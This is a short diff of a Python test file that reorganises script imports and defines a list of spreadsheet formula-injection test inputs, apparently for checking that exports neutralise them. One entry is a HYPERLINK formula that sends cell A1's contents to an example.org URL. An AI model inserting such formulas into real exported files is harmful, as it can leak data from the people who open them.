@@ -12,10 +12,10 @@ import xml.etree.ElementTree as ET
 import pytest
 import yaml
 
-from scripts import export, feeds
-from scripts.browser import chromium, serve
-from scripts.scratch import build_site
-from scripts.validate import load_catalogue
+from scripts.data.validate import load_catalogue
+from scripts.dev.browser import chromium, serve
+from scripts.dev.scratch import build_site
+from scripts.publish import export, feeds
 from tests.test_validate import INITIATIVE
 
 FORMULAS = ['=HYPERLINK("https://example.org/?x="&A1;"klik")', "+1+1", "-2+3", "@SUM(1+1)", "\tx", "\rx", "'=1+1"]
